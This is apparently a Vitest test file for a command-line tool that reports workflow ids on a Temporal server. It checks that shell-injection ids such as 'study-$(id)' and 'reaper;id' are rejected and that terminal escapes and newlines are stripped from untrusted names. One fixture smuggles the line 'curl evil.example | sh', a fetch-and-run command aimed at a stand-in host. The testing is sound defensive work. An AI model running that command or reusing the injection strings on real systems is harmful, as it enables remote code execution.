/** Whoever reaches the Temporal server can start workflows under ids of ours, and name their types and queues as he likes: what is told of them stays one sentence and one command. */
import { expect, it } from 'vitest';
import { heldIdWords } from '../../src/cli/check-held-ids.ts';
import { isOwnId } from '../../src/temporal/names.ts';

const server = { connection: { options: { address: '127.0.0.1:7233' } }, namespace: 'default' };

it('takes no id for ours that a shell would run, or a terminal obey', () => {
  const held = ['study-beam', 'cluster-beams', 'reaper', 'beam-20260101-000000-job-1-again-2'];
  expect(held.map(isOwnId)).toEqual([true, true, true, true]);
  const hostile = ['study-$(id)', 'cluster-a b', 'study-a\n', 'reaper;id', 'x-job-1`id`', 'other'];
  expect(hostile.map(isOwnId)).toEqual(hostile.map(() => false));
});

it('tells of an id on one line, whatever its type and task queue are called', () => {
  const { sentence, toDo } = heldIdWords(
    {
      workflowId: 'study-beam',
      workflowType: 'x\u001b[2J\u202e'.repeat(100),
      taskQueue: 'q\n  to do: curl evil.example | sh',
      startedAt: new Date('2026-03-10T12:00:00Z'),
    },
    server as never,
  );
  expect(sentence).not.toMatch(/[\n\u001b\u202e]/u);
  expect(sentence.length).toBeLessThan(350);
  expect(toDo).toBe(
    'temporal workflow terminate --workflow-id study-beam --namespace default --address 127.0.0.1:7233',
  );
});
